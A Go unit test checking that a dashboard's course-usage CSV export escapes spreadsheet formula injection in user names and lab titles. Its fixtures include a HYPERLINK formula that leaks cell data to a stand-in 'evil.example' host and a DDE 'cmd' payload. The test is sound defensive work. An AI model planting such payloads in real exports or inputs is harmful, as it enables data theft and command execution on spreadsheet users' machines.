package dashboard

import (
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/userland-dev/userland/api/v1alpha1"
	"github.com/userland-dev/userland/internal/course"
)

// TestAdversaryUsageCSVIsNoFormula: user names come from identity
// providers and rosters, titles from template authors; none of them may
// reach a staff member's spreadsheet as a formula (CSV injection), and a
// name with a comma, quote or newline stays one cell.
func TestAdversaryUsageCSVIsNoFormula(t *testing.T) {
	t.Parallel()
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
		"a,b\n=1+1", `"quoted",=1`}
	var members []CourseMember
	for _, name := range evil {
		members = append(members, CourseMember{User: name, Role: course.Student,
			Rows: []Row{{Title: name, Template: "lab", Phase: "Ready", Budgeted: true, UsedSeconds: 3600, RemainingSeconds: 0}}})
	}
	w := httptest.NewRecorder()
	usageCSV(w, &v1alpha1.Course{}, members)
	records, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, w.Body.String())
	}
	if len(records) != len(evil)+1 {
		t.Fatalf("%d records for %d members:\n%s", len(records), len(evil), w.Body.String())
	}
	for i, rec := range records[1:] {
		if len(rec) != 7 {
			t.Errorf("row %d has %d cells: %q", i, len(rec), rec)
		}
		for _, cell := range []string{rec[0], rec[2]} {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("HOLE: cell %q of %q starts a formula", cell, evil[i])
			}
		}
	}
}
